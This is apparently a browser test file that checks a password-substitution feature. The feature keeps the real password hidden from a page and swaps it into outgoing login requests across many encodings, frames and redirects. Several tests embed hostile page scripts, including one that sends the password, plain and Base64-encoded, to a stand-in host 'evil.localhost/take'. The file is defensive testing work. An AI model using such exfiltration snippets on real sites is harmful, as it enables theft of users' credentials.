import type { Browser, BrowserContext } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, it } from 'vitest'
import {
  launchTrialBrowser,
  password,
  posting,
  serveTrial,
  type TrialSite,
  telltale,
  trialForm,
  tryLogin,
} from '../../../test/stand-in-trial.ts'

// One page in a real Chromium, whose own script keeps whatever it can get hold of.

let browser: Browser
let context: BrowserContext
let site: TrialSite

beforeAll(async () => {
  browser = await launchTrialBrowser()
})
afterAll(() => browser.close())
afterEach(async () => {
  await context.close()
  await site.close()
})

async function logIn(page: string, answers?: Parameters<typeof serveTrial>[1]) {
  site = await serveTrial(page, answers)
  context = await browser.newContext({ serviceWorkers: 'block' })
  return tryLogin(context, site)
}

const received = () => site.received.get('shop.localhost/in') ?? ''
const text = () => Buffer.from(received(), 'latin1').toString('utf8')
const escaped = `JSON.stringify(v).replace(/[\\u0080-\\uffff]/g, (c) => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))`
const base64 = `btoa(String.fromCharCode(...new TextEncoder().encode(v.p)))`
const form = 'application/x-www-form-urlencoded'

const ways: [string, string, string, () => unknown][] = [
  ['a form', '', '', () => new URLSearchParams(received()).get('p')],
  [
    'a form in parts',
    'enctype="multipart/form-data"',
    '',
    () => /name="p"\r\n\r\n(.*?)\r\n/s.exec(text())?.[1],
  ],
  ['JSON', '', posting('application/json', 'JSON.stringify(v)'), () => JSON.parse(text()).p],
  ['escaped JSON', '', posting('application/json', escaped), () => JSON.parse(text()).p],
  [
    'JSON within a form',
    '',
    posting(form, 'new URLSearchParams({ data: JSON.stringify(v) }).toString()'),
    () => JSON.parse(new URLSearchParams(received()).get('data') ?? '').p,
  ],
  [
    'Base64 in JSON',
    '',
    posting('application/json', `JSON.stringify({ p: ${base64} })`),
    () => Buffer.from(JSON.parse(text()).p, 'base64').toString('utf8'),
  ],
  ['plain text', '', posting('text/plain', 'v.p'), () => text()],
  [
    'an old request',
    '',
    `sends((v) => new Promise((resolve) => { const x = new XMLHttpRequest(); x.open('PUT', '/in'); x.onload = resolve; x.send(JSON.stringify(v)) }))`,
    () => JSON.parse(text()).p,
  ],
  [
    'a request that outlives its page',
    '',
    `sends((v) => fetch('/in', { method: 'POST', keepalive: true, body: JSON.stringify(v) }))`,
    () => JSON.parse(text()).p,
  ],
]

it.each(ways)('swaps the value into %s, and nobody in the browser sees it', async (...way) => {
  const [, attributes, script, read] = way

  const { page, standIn, overheard, swaps, failure, strays } = await logIn(
    trialForm(attributes, script),
  )

  expect(failure).toBeUndefined()
  expect(read()).toBe(password)
  expect([swaps(), strays]).toEqual([1, []])
  expect(await page.evaluate(() => sessionStorage.getItem('kept'))).toBe(standIn)
  expect([...overheard, await page.content()].join('\n')).not.toContain(telltale)
})

it('swaps the digest of the value for the digest of its stand-in', async () => {
  const digest = `crypto.subtle.digest('SHA-256', new TextEncoder().encode(v.p)).then((d) => [...new Uint8Array(d)].map((b) => b.toString(16).padStart(2, '0')).join(''))`
  const { swaps } = await logIn(
    trialForm('', `sends(async (v) => fetch('/in', { method: 'POST', body: await ${digest} }))`),
  )
  const { createHash } = await import('node:crypto')

  expect(received()).toBe(createHash('sha256').update(password).digest('hex'))
  expect(swaps()).toBe(1)
})

it('swaps it again where a page checks the password before it sends it, but not for ever', async () => {
  const send = `(path) => fetch(path, { method: 'POST', body: JSON.stringify(v) })`
  const { swaps } = await logIn(
    trialForm(
      '',
      `sends(async (v) => { const send = ${send}; for (const path of ['/check', '/in', '/again', '/more']) await send(path) })`,
    ),
  )

  expect(JSON.parse(text()).p).toBe(password)
  expect(swaps()).toBe(3)
  expect(site.received.get('shop.localhost/more')).not.toContain(telltale)
})

it.each([
  [307, 'login.shop.localhost', password],
  [308, 'shop.localhost', password],
  [302, 'shop.localhost', undefined],
])('lets a redirect (%i) to %s repeat what it may', async (status, host, expected) => {
  const { swaps, failure } = await logIn(trialForm(''), {
    '/in': (_request, response) => {
      response.writeHead(status, { location: `http://${host}:${site.port}/next` }).end()
    },
  })
  const next = site.received.get(`${host}/next`)

  expect(failure).toBeUndefined()
  expect(new URLSearchParams(received()).get('p')).toBe(password)
  expect(next === undefined ? undefined : new URLSearchParams(next).get('p')).toBe(expected)
  expect(swaps()).toBeGreaterThanOrEqual(1)
})

const intoFrame = `document.body.append(Object.assign(document.createElement('iframe'), { name: 'inner' }))`

it.each([
  ['of the page', 307, trialForm('')],
  ['of the page', 308, trialForm('')],
  ['of a frame', 307, trialForm('target="inner"', intoFrame)],
  ['of a frame', 308, trialForm('target="inner"', intoFrame)],
  ['of a script', 307, trialForm('', posting(form, 'new URLSearchParams(v).toString()'))],
])('takes no value along on a redirect %s (%i) to another host', async (_where, status, page) => {
  await logIn(page, {
    '/in': (_request, response) => {
      response.writeHead(status, { location: `http://evil.localhost:${site.port}/next` }).end()
    },
  })

  expect(new URLSearchParams(received()).get('p')).toBe(password)
  expect(site.received.get('evil.localhost/next') ?? '').not.toContain(telltale)
})

it('swaps into a request that a frame of another site sends', async () => {
  const { swaps } = await logIn(
    trialForm(
      '',
      `const relay = document.createElement('iframe')
       relay.src = location.origin.replace('shop.', 'login.shop.') + '/relay'
       document.body.append(relay)
       sends((v) => new Promise((resolve) => { onmessage = resolve; relay.contentWindow.postMessage(v, '*') }))`,
    ),
    {
      '/relay': (_request, response) => {
        response.setHeader('content-type', 'text/html')
        response.end(`<script>onmessage = async ({ data }) => {
          await fetch('/in', { method: 'POST', body: JSON.stringify(data) })
          parent.postMessage('sent', '*')
        }</script>`)
      },
    },
  )

  expect(JSON.parse(site.received.get('login.shop.localhost/in') ?? '{}').u).toBe('ada')
  expect(swaps()).toBe(1)
})

it('stops a password that was typed on its way to another host', async () => {
  site = await serveTrial(
    trialForm(
      '',
      `const away = location.origin.replace('shop.', 'evil.') + '/take'
       sends(async (v) => {
         await fetch(away, { method: 'POST', body: JSON.stringify(v) }).catch(() => 0)
         await fetch(away + '?' + btoa(unescape(encodeURIComponent(v.p)))).catch(() => 0)
         await fetch('/in', { method: 'POST', body: JSON.stringify(v) })
       })`,
    ),
  )
  context = await browser.newContext({ serviceWorkers: 'block' })
  const { strays, failure } = await tryLogin(context, site, { by: 'hand' })

  expect(failure).toBeUndefined()
  expect(JSON.parse(text()).p).toBe(password)
  expect(strays).toMatchObject(['evil.localhost', 'evil.localhost'].map((host) => ({ host })))
  expect(site.everything()).not.toContain('/take')
})

it('waits with a password that a page sends with its next step', async () => {
  const { page, loginPage, swaps } = await logIn(
    trialForm(
      '',
      `let kept
       document.forms[0].addEventListener('submit', (event) => {
         event.preventDefault()
         if (kept) return void fetch('/in', { method: 'POST', body: JSON.stringify(kept) }).then(welcome)
         kept = values()
         document.querySelector('h1').textContent = 'Are you sure?'
       })`,
    ),
  )
  expect(swaps()).toBe(0)

  const { controls } = await loginPage.observe()
  const target = controls.find(({ kind }) => kind === 'button')?.node ?? -1
  await loginPage.act({ kind: 'press', target })

  expect(JSON.parse(text()).p).toBe(password)
  expect(swaps()).toBe(1)
  expect(await page.content()).toContain('Welcome')
})
